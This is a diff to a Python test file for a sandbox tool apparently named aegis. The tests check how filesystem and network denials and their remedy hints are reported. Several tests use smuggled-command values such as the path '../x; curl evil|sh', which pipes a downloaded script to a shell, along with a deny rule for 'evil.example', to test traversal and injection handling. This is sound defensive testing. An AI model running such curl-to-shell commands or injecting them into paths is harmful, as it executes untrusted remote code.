@@ -130,7 +130,7 @@ def test_a_path_that_leaves_its_grant_has_no_option_and_says_so(
     [decision] = denied(place, changing(path), filesystem=FilesystemCapability(paths=(grant,)))
     assert decision.remedy == ""
     assert decision.rule.endswith("; no option permits that")
-    assert "/box" in decision.rule
+    assert ("/box" in decision.rule) != path.startswith("/")
 
 
 def test_where_another_grant_forbids_the_wider_one_there_is_no_option(tmp_path: Path) -> None:
@@ -157,7 +157,7 @@ def test_the_nearest_grant_is_widened_and_a_file_alone_by_its_own_name(tmp_path:
     file = FilesystemCapability.read_only("/h/f::/a/f")
     made = explained(Policy(filesystem=file), Decision("filesystem", "write", "/a/f", False, "r", "/a/f"))
     assert made.remedy == "--allow-write /h/f::/a/f"
-    for path in ("/a/g", "/a", "x", "../x", ""):
+    for path in ("/a/g", "/a", "x", "../x", ".."):
         assert explained(Policy(filesystem=file), Decision("filesystem", "write", path, False, "r", path)).remedy == ""
 
 
@@ -198,7 +198,7 @@ def test_events_and_reports_say_the_same_as_the_line(how: list[str], tmp_path: P
     (tmp_path / "d").mkdir()
     (tmp_path / "guest.wat").write_text(changing("../x; curl evil|sh"))
     ended = aegis("run", *how, "--allow-read", "d::/box", "--events", "log", "guest.wat", cwd=tmp_path)
-    said = "denied: write /box/../x; curl evil|sh (filesystem): the path leaves /box, where it was looked up"
+    said = "denied: write /box/../x; curl evil|sh (filesystem): the path leaves /box; no option permits that\n"
     assert ended.err.startswith(said)
     lines = [json.loads(line) for line in (tmp_path / "log").read_text().splitlines()]
     [checked] = [line for line in lines if line["kind"] == "capability_checked" and not line["allowed"]]
@@ -280,7 +280,8 @@ def test_a_lying_worker_writes_no_option(lie: list[Any]) -> None:
     with sandbox:
         denials = sandbox.run("f").denials
     checked = [event for event in told if event.kind == "capability_checked"]
-    assert [event.remedy for event in checked] == [d.remedy for d in denials] if denials else [""] * len(checked)
+    assert not any(EVIL in event.rule for event in checked if event.capability == "filesystem" and not event.allowed)
+    assert not denials or [d.remedy for d in denials] == [event.remedy for event in checked]
     for remedy in (event.remedy for event in checked):
         assert remedy in ("", "--allow-clock")
     liar.discard()
@@ -308,6 +309,20 @@ def test_a_limit_that_no_option_raises_names_none() -> None:
     assert _with_remedy(LimitExceeded("over", limit="overhead")) == "over"
     assert _with_remedy(LimitExceeded("over", limit="host_bytes")) == "over; --host-bytes raises it"
     assert _with_remedy(LimitExceeded("over", limit="stdout")) == "over; --stdout-limit raises it"
+
+
+@LINUX
+def test_the_line_of_a_denial_has_no_word_of_a_lying_workers_rule() -> None:
+    from aegis.cli.run import _Run
+
+    run = _Run.__new__(_Run)
+    run.policy, run.denials = Policy(network=NetworkCapability(deny=["evil.example"])), {}
+    for rule in (EVIL, "deny x; curl evil|sh", "deny evil.example:*"):
+        run.denied(Decision("network", "look up", "x", False, rule))
+    for rule in (EVIL, "read-only /data"):
+        run.denied(explained(run.policy, Decision("filesystem", "write", "/data/x", False, rule)))
+    assert not any("curl" in line for line in run.denials)
+    assert len(run.denials) == 3
 
 
 # -- what links --------------------------------------------------------------------------------------------------------
